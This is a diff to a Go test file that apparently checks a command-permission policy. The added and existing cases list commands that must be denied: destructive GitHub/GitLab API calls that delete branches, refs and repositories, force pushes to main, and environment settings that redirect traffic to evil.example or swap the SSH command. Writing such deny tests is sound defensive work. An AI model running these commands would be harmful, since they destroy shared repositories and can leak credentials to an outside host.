@@ -74,12 +74,12 @@ func TestOrgExample(t *testing.T) {
 		{"deny", refs, []string{
 			"gh api -X PATCH repos/x/y/git/refs/heads/main -f force=true", "curl -X DELETE https://api.github.com/repos/x/y/git/refs/heads/main",
 			`gh api graphql -f query='mutation{deleteRef(input:{refId:"x"}){clientMutationId}}'`, "gh api graphql -F query=@m.graphql", "gh api -X DELETE repos/x/y",
-			"glab api -X DELETE projects/1/repository/branches/main", "curl -d x https://github.com/x/y.git/git-receive-pack",
+			"glab api -X DELETE projects/1/repository/branches/main", "glab -R x/y api -X DELETE projects/1/repository/branches/main", "gh -R x/y api -X DELETE repos/x/y/git/refs/heads/main", "curl -d x https://github.com/x/y.git/git-receive-pack",
 		}},
 		{"deny", "a push of the other name would lead to the branch", []string{"git symbolic-ref refs/heads/x refs/heads/main"}},
 		{"deny", "changes which server is meant, or what is pushed", []string{
 			"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.x.push GIT_CONFIG_VALUE_0=+HEAD:main git push https://github.com/x/y", "env GIT_SSH_COMMAND=./x git push origin a",
-			"export https_proxy=http://evil.example", "GH_HOST=evil.example gh issue list",
+			"export https_proxy=http://evil.example", "export 'GIT_DIR=a b'", "GH_HOST=evil.example gh issue list",
 		}},
 		{"deny", "a program of that name, of which nothing is known", []string{"/opt/git/bin/git push -f origin main", "./kubectl --context prod delete pod x", "hub push -f"}},
 		{"deny", "repositories belong to the organisation", []string{"gh repo delete x/y --yes"}},
